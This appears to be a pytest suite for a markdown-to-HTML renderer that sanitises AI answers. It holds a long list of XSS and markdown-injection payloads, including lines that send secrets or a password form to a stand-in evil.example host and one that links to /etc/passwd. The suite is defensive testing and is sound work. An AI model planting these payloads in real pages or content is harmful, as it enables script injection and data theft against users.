"""Answers become HTML that can do nothing but be read."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from agents.rendering import render, render_plain

HARMLESS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "a"),
    *("ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="http://evil.example/?q=secret">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;top:0'>overlay</p>",
    "<form action=http://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='http://ok.example' onclick=alert(1)>x</a>",
    "<a href='http://ok.example' ping='http://evil.example'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/accounts/logout/)",
    "[x](?c=1)",
    "[x](mailto:a@b.example)",
    '[x](http://ok.example "onmouseover=alert(1)")',
    "[x](http://ok.example/'onmouseover='alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![<script>alert(1)</script>](x)",
    "[![x](http://evil.example/p.png)](http://evil.example)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html onload=alert(1)"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "|a|<script>alert(1)</script>|\n|-|-|\n|<img src=x onerror=alert(1)>|x|",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <iframe src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<sc\0ript>alert(1)</sc\0ript>",
    "<" * 2000 + "script>alert(1)</script>",
    "🚀<ſcript>alert(1)</ſcript>",
]


class Reader(HTMLParser):
    """Writes down what a browser would make elements of."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements(html: str):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.elements


@pytest.mark.parametrize("payload", PAYLOADS)
def test_whatever_a_text_holds_only_harmless_elements_come_of_it(payload):
    for tag, attributes in elements(render(payload)):
        assert tag in HARMLESS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set())
        if "href" in attributes:
            assert urlsplit(attributes["href"]).scheme in {"http", "https"}
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_question_is_shown_as_it_was_typed(payload):
    assert {tag for tag, _ in elements(render_plain(payload))} <= {"br"}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**ABEND** in `JOB_A`", "<p><strong>ABEND</strong> in <code>JOB_A</code></p>"),
        ("MY_JOB_NAME and A*B*C", "<p>MY_JOB_NAME and A<em>B</em>C</p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("![a picture](http://x.example/p.png)", "<p>a picture</p>"),
        (
            "[docs](https://x.example/a?b=c)",
            '<p><a href="https://x.example/a?b=c" target="_blank" '
            'rel="noopener noreferrer nofollow">docs</a></p>',
        ),
        ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>"),
    ],
)
def test_markdown_is_rendered(text, html):
    assert render(text).strip() == html


def test_a_table_is_rendered():
    html = render("|job|rc|\n|-|-|\n|A|12|")

    assert re.sub(r"\s", "", html) == (
        "<table><thead><tr><th>job</th><th>rc</th></tr></thead>"
        "<tbody><tr><td>A</td><td>12</td></tr></tbody></table>"
    )
